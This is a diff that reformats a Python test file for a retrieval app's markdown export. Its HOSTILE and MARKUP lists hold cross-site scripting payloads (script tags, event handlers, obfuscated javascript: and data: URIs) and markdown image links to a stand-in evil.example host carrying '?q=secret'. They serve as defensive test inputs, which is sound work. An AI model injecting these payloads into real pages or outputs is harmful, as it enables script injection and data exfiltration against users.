@@ -14,16 +14,48 @@ from ragapp.answer.export import as_markdown, inert
 from ragapp.index.conversations import ConversationRow, Turn
 
 HOSTILE = [
-    "[click](http://evil.example)", "![x](http://evil.example/a.png)", "<script>alert(1)</script>", "<img src=x>",
-    "http://evil.example", "www.evil.example", "mail@evil.example", "<http://evil.example>", "**bold**", "_it_",
+    "[click](http://evil.example)",
+    "![x](http://evil.example/a.png)",
+    "<script>alert(1)</script>",
+    "<img src=x>",
+    "http://evil.example",
+    "www.evil.example",
+    "mail@evil.example",
+    "<http://evil.example>",
+    "**bold**",
+    "_it_",
     "`code`",
-    "# heading", "> quote", "- item", "1. item",
-    "| a | b |\n|---|---|", "[ref]: http://evil.example", "&lt;b&gt;",
+    "# heading",
+    "> quote",
+    "- item",
+    "1. item",
+    "| a | b |\n|---|---|",
+    "[ref]: http://evil.example",
+    "&lt;b&gt;",
     "~~x~~",
-    "```\ncode", "\\", "\\[", "$x^2$", "====", "---", "&copy;", "\x1b[31m", "`http://evil`example`", "javascript://x",
+    "```\ncode",
+    "\\",
+    "\\[",
+    "$x^2$",
+    "====",
+    "---",
+    "&copy;",
+    "\x1b[31m",
+    "`http://evil`example`",
+    "javascript://x",
     "[1]",
-    "a  \nb", "\u202eabc", "``", "*", "<!--", "]]>", "+ x", "1) x", "[^1]: note", "![", "](",
-]  # fmt: skip
+    "a  \nb",
+    "\u202eabc",
+    "``",
+    "*",
+    "<!--",
+    "]]>",
+    "+ x",
+    "1) x",
+    "[^1]: note",
+    "![",
+    "](",
+]
 ALLOWED = {"text", "code_inline", "softbreak"}
 
 
@@ -75,19 +107,33 @@ def test_hostile_everywhere_makes_no_link_and_no_html():
 
 def test_all_of_a_turn_is_there():
     made = conversation(
-        "and for Paris?", "What is the limit for Paris?",
+        "and for Paris?",
+        "What is the limit for Paris?",
         sentences=[
             {"text": "It is €215. [1]", "supported": True, "citations": [1]},
             {"text": "It is nice.", "supported": False, "citations": []},
         ],
-        citations=[{"n": 1, "document": "policy.pdf", "path": "/p", "page": 3, "label": "", "kind": "page",
-                    "quote": "rises from €190\nto €215"}],
-    )  # fmt: skip
+        citations=[
+            {
+                "n": 1,
+                "document": "policy.pdf",
+                "path": "/p",
+                "page": 3,
+                "label": "",
+                "kind": "page",
+                "quote": "rises from €190\nto €215",
+            }
+        ],
+    )
     for text in (
-        "# Hotels", "2025-05-01, 1 question", "## 1. and for Paris?", "Understood as: What is the limit for Paris?",
-        "It is €215. \\[1\\]", "It is nice. *(not found in the passages)*",
+        "# Hotels",
+        "2025-05-01, 1 question",
+        "## 1. and for Paris?",
+        "Understood as: What is the limit for Paris?",
+        "It is €215. \\[1\\]",
+        "It is nice. *(not found in the passages)*",
         "- \\[1\\] policy.pdf, p. 3: “rises from €190 to €215”",
-    ):  # fmt: skip
+    ):
         assert text in made.splitlines()
 
 
@@ -101,19 +147,47 @@ def test_an_abstention_shows_the_nearest_passages():
 
 
 MARKUP = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
     "<svg><script>1</script></svg>",
-    "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<style>*{background:url(//e)}</style>",
-    "![x](http://evil.example/?q=secret)", "![x][r]\n\n[r]: http://evil.example/?q=secret", "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](vbscript:msgbox)", "[x](http://evil.example)", "<http://evil.example>", "<javascript:alert(1)>",
-    "[x](<javascript:alert(1)>)", "[x](&#106;avascript:alert(1))", "[x]: javascript:alert(1)\n\n[x]",
-    "![](data:image/svg+xml;base64,PHN2Zz4=)", "[![x](http://e/i.png)](http://e)", "&lt;script&gt;", "&#60;script&#62;",
-    "# Heading\n\n***", "| a | b |\n|:--|--:|\n| <img src=x> | ![](http://e) |", "```html onload=x\n<script>\n```",
-    "    <script>indented</script>", "`<script>`", "- a\n\n3. b", "http://evil.example www.evil.example a@evil.example",
-    "<!-- --><b>", "<math><mtext></mtext><mglyph><style></math>", "<a\nhref=x>", "\\<script>", "![x](//evil.example/a)",
-    "=====\nx\n-----", "<details open ontoggle=alert(1)>", "$$\\href{javascript:alert(1)}{x}$$", "~~~\n<script>\n~~~",
-]  # fmt: skip
+    "<iframe src=javascript:alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<style>*{background:url(//e)}</style>",
+    "![x](http://evil.example/?q=secret)",
+    "![x][r]\n\n[r]: http://evil.example/?q=secret",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox)",
+    "[x](http://evil.example)",
+    "<http://evil.example>",
+    "<javascript:alert(1)>",
+    "[x](<javascript:alert(1)>)",
+    "[x](&#106;avascript:alert(1))",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "![](data:image/svg+xml;base64,PHN2Zz4=)",
+    "[![x](http://e/i.png)](http://e)",
+    "&lt;script&gt;",
+    "&#60;script&#62;",
+    "# Heading\n\n***",
+    "| a | b |\n|:--|--:|\n| <img src=x> | ![](http://e) |",
+    "```html onload=x\n<script>\n```",
+    "    <script>indented</script>",
+    "`<script>`",
+    "- a\n\n3. b",
+    "http://evil.example www.evil.example a@evil.example",
+    "<!-- --><b>",
+    "<math><mtext></mtext><mglyph><style></math>",
+    "<a\nhref=x>",
+    "\\<script>",
+    "![x](//evil.example/a)",
+    "=====\nx\n-----",
+    "<details open ontoggle=alert(1)>",
+    "$$\\href{javascript:alert(1)}{x}$$",
+    "~~~\n<script>\n~~~",
+]
 
 
 class Elements(HTMLParser):
